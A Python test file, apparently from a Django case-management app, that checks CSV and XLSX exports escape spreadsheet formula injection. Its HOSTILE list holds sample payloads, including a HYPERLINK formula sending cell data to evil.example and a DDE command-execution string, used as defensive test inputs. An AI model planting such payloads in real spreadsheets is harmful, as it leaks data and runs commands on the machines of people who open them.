"""CSV and XLSX exports are safe from formula injection: one shared function (safeguard.csvsafe), used by
every module that writes a spreadsheet, and each export checked with hostile text in it."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.test import Client

from partner_world import World
from safeguard.agencies import actions as agency_actions
from safeguard.csvsafe import FORMULA_STARTS, cell_text, formula_safe
from safeguard.insights_web.exports import Export, Table, to_csv, to_xlsx
from safeguard.victims import actions as victim_actions

SRC = Path(__file__).resolve().parents[2] / "src" / "safeguard"
# Modules that use csv/openpyxl but write no spreadsheet a person opens: benchmark timings (numbers only)
# and the API's extract reader (it reads uploaded files).
NOT_EXPORTS = {"scale/bench.py", "api/extract.py"}
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR",
           "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(value: str) -> None:
    assert formula_safe(value) == "'" + value
    assert cell_text(value) == "'" + value


@pytest.mark.parametrize("value", ["Plain text", "a=b", "3 call-outs", "", "O'Neil"])
def test_ordinary_text_and_numbers_are_left_alone(value: str) -> None:
    assert formula_safe(value) == value
    assert formula_safe(-3) == -3 and formula_safe(None) is None and cell_text(None) == ""


def _writes_spreadsheets(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + ([node.module] if isinstance(node, ast.ImportFrom) else [])
            if any(n and (n == "csv" or n.startswith("openpyxl")) for n in names):
                return True
    return False


def test_every_module_that_writes_csv_or_xlsx_uses_the_shared_formula_safe_function() -> None:
    writers = []
    for path in sorted(SRC.rglob("*.py")):
        relative = path.relative_to(SRC).as_posix()
        if relative in NOT_EXPORTS or relative == "csvsafe.py" or "/migrations/" in relative:
            continue
        source = path.read_text()
        if _writes_spreadsheets(ast.parse(source)):
            writers.append(relative)
            assert "safeguard.csvsafe" in source, f"{relative} writes CSV/XLSX without safeguard.csvsafe"
    assert {"agencies/views.py", "victims/views.py", "insights_web/exports.py"} <= set(writers)


def _cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _no_formula(cells: list[str]) -> None:
    assert cells
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], "a cell would run as a formula"


@pytest.mark.django_db
def test_the_agency_requests_export_escapes_hostile_text(world: World) -> None:
    agency_actions.draft_request(world.case, agency="police", about=[], question=HOSTILE[0], user=world.users["pp"])
    client = Client()
    client.force_login(world.users["pp"])
    cells = _cells(client.get(f"/agencies/cases/{world.case.ref}/requests.csv").content)
    _no_formula(cells)
    assert "'" + HOSTILE[0] in cells


@pytest.mark.django_db
def test_the_victims_safety_export_escapes_hostile_text(world: World) -> None:
    victim_actions.add_detail(world.victim, kind="phone", value="=1+2", never_disclose=False, note="@SUM(A1)",
                              user=world.users["pp"])
    client = Client()
    client.force_login(world.users["pp"])
    cells = _cells(client.get(f"/victims/cases/{world.case.ref}/export.csv").content)
    _no_formula(cells)
    assert "'=1+2" in cells and "'@SUM(A1)" in cells


def test_insights_csv_and_xlsx_escape_hostile_text() -> None:
    from openpyxl import load_workbook

    export = Export(title="=TITLE()", about=[("-unit", "+team")],
                    tables=[Table(title="@table", headers=["=h"], rows=[[v] for v in HOSTILE])])
    _no_formula(_cells(to_csv(export)))
    book = load_workbook(io.BytesIO(to_xlsx(export)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula"
